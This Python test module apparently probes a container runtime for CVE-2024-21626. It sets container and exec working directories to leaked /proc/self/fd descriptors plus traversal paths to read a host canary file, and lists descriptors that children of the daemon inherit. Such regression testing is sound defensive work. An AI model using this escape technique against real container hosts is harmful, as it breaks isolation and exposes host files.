"""Descriptors of the daemon's that a container could reach (CVE-2024-21626)."""

import os
import threading

from ground import attack

MATTERS = "runtimes"


@attack
def test_working_directory_behind_a_descriptor(ground):
    """Of the container and of an exec session; and what else they, and what starts them, have open."""
    climb = "../" * 24 + str(ground.out).lstrip("/")
    running = ground.start()
    with Watch(ground.engine.pid) as watch:
        for number in (3, 5, *range(7, 12)):
            for place in (f"/proc/self/fd/{number}", f"/proc/self/fd/{number}/../../../../../../../.."):
                outcome = ground.run(f"pwd; cat {climb}/secret; cat ../..{ground.out}/secret", WorkingDir=place)
                if ground.reads_canary(outcome.output):
                    yield f"working directory {place}: {outcome}"
            output = ground.execute(running, f"pwd; cat {climb}/secret", WorkingDir=f"/proc/self/fd/{number}")
            if ground.reads_canary(output):
                yield f"working directory behind {number} of an exec: {output}"
    yield from watch.inherited
    yield from strangers("the container's first process", ground.api.container(running)["State"]["Pid"])
    session = ground.api.post(f"/containers/{running}/exec", {"Cmd": ["sleep", "60"]}).json["Id"]
    ground.api.post(f"/exec/{session}/start", {"Detach": True})
    yield from strangers("an exec session's process", ground.api.get(f"/exec/{session}/json").json["Pid"])


class Watch(threading.Thread):
    """Notes descriptors of a process that its children would inherit."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.inherited, self.over = pid, set(), threading.Event()

    def __enter__(self):
        self.start()
        return self

    def __exit__(self, *failure):
        self.over.set()
        self.join()

    def run(self):
        while not self.over.wait(0.001):
            for number, leads_to in descriptors(self.pid).items():
                if number > 2 and leads_to.startswith("/") and not closed_on_exec(self.pid, number):
                    self.inherited.add(f"children of the daemon inherit {leads_to}")


def closed_on_exec(pid, number):
    try:
        with open(f"/proc/{pid}/fdinfo/{number}") as file:
            flags = next(line.split()[1] for line in file if line.startswith("flags:"))
    except FileNotFoundError:
        return True  # closed meanwhile
    return bool(int(flags, 8) & os.O_CLOEXEC)


def strangers(whose, pid):
    for number, leads_to in descriptors(pid).items():
        if number > 2:
            yield f"{whose} has {number} -> {leads_to}"


def descriptors(pid):
    found = {}
    for name in os.listdir(f"/proc/{pid}/fd"):
        try:
            found[int(name)] = os.readlink(f"/proc/{pid}/fd/{name}")
        except FileNotFoundError:
            pass
    return found
